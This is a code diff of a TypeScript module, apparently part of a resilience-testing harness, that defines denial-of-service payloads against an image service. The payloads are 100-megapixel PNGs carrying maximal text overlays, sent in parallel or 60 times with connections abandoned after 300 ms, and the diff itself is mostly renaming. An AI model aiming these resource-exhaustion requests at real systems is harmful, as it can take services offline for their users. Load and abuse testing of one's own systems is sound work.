@@ -1,14 +1,14 @@
 import { setTimeout as delay } from 'node:timers/promises';
-import { type Attack, type Call, keyOf, sendTogether, type Target } from './attack.ts';
+import { type Attack, type AnyRequest, keyOf, sendTogether, type Target } from './attack.ts';
 import { makeForm } from './form.ts';
 import { makePng } from './pictures/png.ts';
 
 const texts = 20;
 const leavesAfterMs = 300;
-/** For the slots to be free again, and for the victim to call a few times. */
+/** Time for the slots to become free and for the victim to send a few requests. */
 const watchedAfterwardsMs = 10_000;
 
-/** A small file that is 100 megapixels large, and texts that cover all of it many times over. */
+/** Small files of 100 megapixels, with texts that cover them many times over. */
 export const largeTexts: readonly Attack[] = [
   together('R1-one', 1),
   together('R1-two', 2),
@@ -18,8 +18,8 @@ export const largeTexts: readonly Attack[] = [
     name: 'away-sixty',
     sends: `the same 60 times, connections closed after ${leavesAfterMs} ms`,
     prepare: async () => {
-      const call = await makeCall();
-      return { run: (target) => callAndLeave(target, call) };
+      const call = await makeLargeRequest();
+      return { run: (target) => sendAndLeave(target, call) };
     },
   },
 ];
@@ -29,19 +29,19 @@ function together(name: string, count: number): Attack {
     name,
     sends: `${count} x 10,000 x 10,000 PNG with ${texts} texts`,
     prepare: async () => {
-      const call = await makeCall();
+      const call = await makeLargeRequest();
       return { run: (target) => sendTogether(target, call, count) };
     },
   };
 }
 
-async function makeCall(): Promise<Call> {
+async function makeLargeRequest(): Promise<AnyRequest> {
   const picture = await makePng({ width: 10_000, height: 10_000, colourType: 'rgb', bitDepth: 8 });
-  return overlayCall(picture);
+  return overlayRequest(picture);
 }
 
-/** Draws as many and as large texts as a call may have on a picture. */
-export function overlayCall(picture: Buffer): Call {
+/** Returns a request that draws as many and as large texts as are allowed. */
+export function overlayRequest(picture: Buffer): AnyRequest {
   const overlay = {
     text: 'WWWW '.repeat(200),
     font_size: 300,
@@ -57,7 +57,7 @@ export function overlayCall(picture: Buffer): Call {
   };
 }
 
-async function callAndLeave(target: Target, call: Call): Promise<void> {
+async function sendAndLeave(target: Target, call: AnyRequest): Promise<void> {
   const key = keyOf(target);
   const calls = Array.from({ length: 60 }, () => {
     const opened = target.open({ ...call, key }, call.body.byteLength);
